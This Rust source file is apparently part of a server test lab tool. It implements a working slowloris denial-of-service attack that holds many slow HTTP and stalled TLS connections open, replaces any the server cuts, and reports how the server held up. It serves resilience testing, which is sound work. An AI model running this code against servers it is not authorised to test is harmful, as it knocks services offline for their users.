//! `sselab bench attack slowloris`: `--attack-connections` HTTP/1.1 connections held open at
//! once, each trickling its request headers a byte a second and never ending them; against
//! https, every other one never even starts its TLS handshake. A connection the server cuts is replaced,
//! so the pressure stays on until the attack stops.

use std::collections::BTreeMap;
use std::sync::Arc;
use std::sync::Mutex;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use hdrhistogram::Histogram;
use serde::Serialize;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::task::JoinSet;
use tokio::time::Instant;
use tokio_util::sync::CancellationToken;

use super::args::AttackPlan;
use crate::bench::percentiles::{Percentiles, histogram};
use crate::client::{connect_tcp, connect_tls};
use crate::sync::lock;

/// One header byte this often: well inside any idle timeout, never a whole request.
const TRICKLE_EVERY: Duration = Duration::from_secs(1);

/// A pause after a failed connect, so a refusing server is not hammered in a hot loop.
const RETRY_PAUSE: Duration = Duration::from_millis(20);

#[derive(Debug, Clone, Default, Serialize)]
pub struct SlowlorisReport {
    pub opened: u64,
    /// The most held open at once.
    pub peak_open: u64,
    /// Closed by the server before the attack stopped, and how long they had lived.
    pub cut_by_server: u64,
    pub lifetime: Percentiles,
    /// Answered with a 503 at once (over a connection cap).
    pub refused: u64,
    pub connect_failures: BTreeMap<String, u64>,
    /// Still held when the attack stopped.
    pub held_at_end: u64,
}

struct Tally {
    opened: AtomicU64,
    open: AtomicU64,
    peak_open: AtomicU64,
    refused: AtomicU64,
    held_at_end: AtomicU64,
    lifetimes: Mutex<Histogram<u64>>,
    connect_failures: Mutex<BTreeMap<String, u64>>,
}

/// How one slow connection ended.
enum Ended {
    Cut(Duration),
    Refused,
    Stopped,
}

/// Hold `plan.connections` slow connections until `stop` or `plan.limit` were opened.
pub(super) async fn run(plan: Arc<AttackPlan>, stop: CancellationToken) -> SlowlorisReport {
    let tally = Arc::new(Tally {
        opened: AtomicU64::new(0),
        open: AtomicU64::new(0),
        peak_open: AtomicU64::new(0),
        refused: AtomicU64::new(0),
        held_at_end: AtomicU64::new(0),
        lifetimes: Mutex::new(histogram()),
        connect_failures: Mutex::default(),
    });
    let mut workers = JoinSet::new();
    for index in 0..plan.connections {
        let (plan, tally, stop) = (plan.clone(), tally.clone(), stop.clone());
        // On https, every other connection never starts its handshake.
        let stall = plan.target.tls.is_some() && index % 2 == 1;
        workers.spawn(async move {
            while !stop.is_cancelled() && tally.opened.load(Ordering::Relaxed) < plan.limit {
                match one_connection(&plan, &tally, &stop, stall).await {
                    Ok(Ended::Cut(lived)) => {
                        lock(&tally.lifetimes).saturating_record(lived.as_micros() as u64);
                    }
                    Ok(Ended::Refused) => {
                        tally.refused.fetch_add(1, Ordering::Relaxed);
                    }
                    Ok(Ended::Stopped) => {
                        tally.held_at_end.fetch_add(1, Ordering::Relaxed);
                    }
                    Err(reason) => {
                        *lock(&tally.connect_failures).entry(reason).or_default() += 1;
                        tokio::time::sleep(RETRY_PAUSE).await;
                    }
                }
            }
        });
    }
    while workers.join_next().await.is_some() {}
    let lifetimes = lock(&tally.lifetimes);
    SlowlorisReport {
        opened: tally.opened.load(Ordering::Relaxed),
        peak_open: tally.peak_open.load(Ordering::Relaxed),
        cut_by_server: lifetimes.len(),
        lifetime: Percentiles::from_micros(&lifetimes),
        refused: tally.refused.load(Ordering::Relaxed),
        connect_failures: lock(&tally.connect_failures).clone(),
        held_at_end: tally.held_at_end.load(Ordering::Relaxed),
    }
}

async fn one_connection(
    plan: &AttackPlan,
    tally: &Tally,
    stop: &CancellationToken,
    stall: bool,
) -> Result<Ended, String> {
    let began = Instant::now();
    let tcp = tokio::time::timeout(plan.connect_timeout, connect_tcp(plan.target.addr))
        .await
        .map_err(|_| "connect: timed out".to_string())??;
    let _open = Open::count(tally);
    match &plan.target.tls {
        Some(config) if !stall => {
            let tls = tokio::select! {
                tls = connect_tls(tcp, &plan.target.host, config.clone()) => tls?,
                _ = stop.cancelled() => return Ok(Ended::Stopped),
            };
            Ok(trickle(tls, began, stop).await)
        }
        // Plain, or a TLS handshake that never starts: a trickle of nothing.
        Some(_) => Ok(hold(tcp, began, stop).await),
        None => Ok(trickle(tcp, began, stop).await),
    }
}

/// Counts a connection open for as long as it lives.
struct Open<'a>(&'a Tally);

impl<'a> Open<'a> {
    fn count(tally: &'a Tally) -> Self {
        tally.opened.fetch_add(1, Ordering::Relaxed);
        let open = tally.open.fetch_add(1, Ordering::Relaxed) + 1;
        tally.peak_open.fetch_max(open, Ordering::Relaxed);
        Self(tally)
    }
}

impl Drop for Open<'_> {
    fn drop(&mut self) {
        self.0.open.fetch_sub(1, Ordering::Relaxed);
    }
}

/// A request's headers, a byte per [`TRICKLE_EVERY`], never finished.
async fn trickle<IO>(mut io: IO, began: Instant, stop: &CancellationToken) -> Ended
where
    IO: AsyncRead + AsyncWrite + Unpin,
{
    let head = b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ".iter();
    let mut bytes = head.chain(std::iter::repeat(&b'a'));
    let mut answer = [0u8; 16];
    let mut tick = tokio::time::interval(TRICKLE_EVERY);
    loop {
        tokio::select! {
            _ = stop.cancelled() => return Ended::Stopped,
            read = io.read(&mut answer) => return match read {
                Ok(n) if answer[..n].starts_with(b"HTTP/1.1 503") => Ended::Refused,
                _ => Ended::Cut(began.elapsed()),
            },
            _ = tick.tick() => {
                let byte = [*bytes.next().unwrap_or(&b'a')];
                if io.write_all(&byte).await.is_err() || io.flush().await.is_err() {
                    return Ended::Cut(began.elapsed());
                }
            }
        }
    }
}

/// Send nothing at all until the server closes or the attack stops.
async fn hold(mut tcp: tokio::net::TcpStream, began: Instant, stop: &CancellationToken) -> Ended {
    let mut answer = [0u8; 1];
    tokio::select! {
        _ = stop.cancelled() => Ended::Stopped,
        _ = tcp.read(&mut answer) => Ended::Cut(began.elapsed()),
    }
}
